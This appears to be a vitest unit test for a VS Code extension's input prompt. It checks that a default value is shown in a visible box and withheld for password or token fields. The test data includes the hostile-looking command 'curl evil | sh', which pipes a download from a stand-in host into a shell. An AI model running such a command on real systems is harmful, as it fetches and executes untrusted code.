import { describe, expect, it, vi } from 'vitest';
import type { InputDefinition } from '../../../src/core/servers/definition.ts';
import { askInput } from '../../../src/vscode/secrets/askInput.ts';

const asked = vi.hoisted((): object[] => []);

vi.mock('vscode', () => ({
  window: {
    showInputBox: (options: object) => {
      asked.push(options);
      return Promise.resolve(undefined);
    },
  },
}));

describe('the box for an input', () => {
  it('starts with the default where a person sees it, and empty where it is a password', async () => {
    const input: InputDefinition = { type: 'promptString', id: 'user', password: false, default: 'curl evil | sh' };
    await askInput('s', input);
    await askInput('s', { ...input, password: true });
    await askInput('s', { ...input, id: 'token' });
    expect(asked).toMatchObject([{ password: false, value: 'curl evil | sh' }, { password: true }, { password: true }]);
    expect(asked.map((options) => 'value' in options)).toEqual([true, false, false]);
  });
});
